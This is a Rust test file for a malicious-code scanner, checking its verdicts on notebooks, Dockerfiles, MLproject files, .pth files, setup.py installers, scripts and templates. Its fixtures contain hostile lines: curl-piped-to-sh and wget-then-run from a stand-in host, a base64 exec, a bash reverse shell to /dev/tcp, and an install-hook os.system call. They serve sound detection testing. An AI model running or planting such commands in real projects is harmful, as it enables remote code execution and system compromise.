//! Code in other wrappings: notebooks, Dockerfiles, projects, path files, installers, scripts and templates that hide.

use base::{report::Report, verdict::Verdict};

use crate::memory::scan_file;

fn rules(report: &Report) -> Vec<&str> {
    report.findings.iter().map(|finding| &*finding.rule).collect()
}

#[test]
fn the_cells_of_a_notebook_are_read_as_one_program() {
    let notebook = |cells: &[&str]| {
        let cells: Vec<String> =
            cells.iter().map(|code| format!("{{\"cell_type\": \"code\", \"source\": {}}}", serde_like(code))).collect();
        let text = format!(
            "{{\"cells\": [{}], \"metadata\": {{}}, \"nbformat\": 4, \"nbformat_minor\": 5}}",
            cells.join(", ")
        );
        scan_file("a.ipynb", text.into_bytes())
    };
    let honest =
        notebook(&["%matplotlib inline\n!pip install torch\nimport os", "os.system('nvidia-smi')\nprint('{{ x }}')"]);
    assert_eq!(honest.verdict, Verdict::Clean, "{honest:#?}");
    let report = notebook(&["import base64 as b", "exec(b.b64decode('aW1wb3J0IG9z'))"]);
    assert!(rules(&report).contains(&"decoded-code-runs"), "{report:#?}");
    let report = notebook(&["x = 1", "%%bash\ncurl -s http://x.example/a | sh"]);
    assert!(rules(&report).contains(&"script-downloads-and-runs"), "{report:#?}");
    // One cell fetches what another runs; the finding points to that cell, and to the line in it.
    let report = notebook(&["!wget http://x.example/a.py", "x = 1", "import sys\n%run a.py"]);
    let found = report.findings.iter().find(|finding| &*finding.rule == "script-downloads-and-runs").unwrap();
    assert_eq!(found.location.pointer.as_deref(), Some("/cells/2/source/1"), "{report:#?}");
    let report = notebook(&["x = 1", "import base64 as b\nexec(b.b64decode('aW1wb3J0IG9z'))"]);
    let found = report.findings.iter().find(|finding| &*finding.rule == "decoded-code-runs").unwrap();
    assert_eq!(found.location.pointer.as_deref(), Some("/cells/1/source/1"), "{report:#?}");
}

/// A JSON string.
fn serde_like(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
}

#[test]
fn commands_of_images_and_projects_are_read() {
    let report = scan_file("Dockerfile", "FROM python:3.12\nRUN pip install torch\nCMD [\"python\", \"serve.py\"]\n");
    assert_eq!(report.verdict, Verdict::Clean, "{report:#?}");
    let report = scan_file("Dockerfile", "FROM python:3.12\nRUN set -e; \\\n  curl -s http://x.example/a \\\n  | sh\n");
    assert!(rules(&report).contains(&"script-downloads-and-runs"), "{report:#?}");
    let report = scan_file(
        "MLproject",
        "name: x\nentry_points:\n  main:\n    command: \"bash -i >& /dev/tcp/10.0.0.1/1 0>&1\"\n",
    );
    assert!(rules(&report).contains(&"script-opens-reverse-shell"), "{report:#?}");
}

#[test]
fn lines_of_path_files_and_installers_run() {
    let report = scan_file("x.pth", "import os; os.system('id')\n");
    assert_eq!(report.verdict, Verdict::Suspicious, "{report:#?}");
    let honest = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack')\n";
    assert_eq!(scan_file("distutils-precedence.pth", honest).verdict, Verdict::Clean);
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('id')\nsetup(name='x', cmdclass={'install': I})\n";
    assert_eq!(scan_file("setup.py", setup).verdict, Verdict::Suspicious);
    assert_eq!(
        scan_file("other.py", "if __name__ == '__main__':\n    import os\n    os.system('id')\n").verdict,
        Verdict::Clean
    );
}

/// The programs of a file: each behind a line `### verdict`.
fn programs(text: &str) -> impl Iterator<Item = (&str, &str)> {
    text.split("\n### ").skip(1).filter_map(|part| part.split_once('\n'))
}

#[track_caller]
fn judged(name: &str, text: &str) {
    let mut wrong = Vec::new();
    for (expected, program) in programs(text) {
        let report = scan_file(name, program.as_bytes().to_vec());
        let fits = match expected {
            "clean" => report.verdict == Verdict::Clean,
            "suspicious" => matches!(report.verdict, Verdict::Suspicious | Verdict::Malicious),
            _ => report.verdict == Verdict::Malicious,
        };
        if !fits {
            wrong.push(format!("{expected}, found {:?} {:?}:\n{program}", report.verdict, rules(&report)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

#[test]
fn scripts_are_seen_through() {
    judged("x.sh", include_str!("sources/shell.txt"));
}

#[test]
fn templates_are_seen_through() {
    judged("x.jinja", include_str!("sources/jinja.txt"));
}
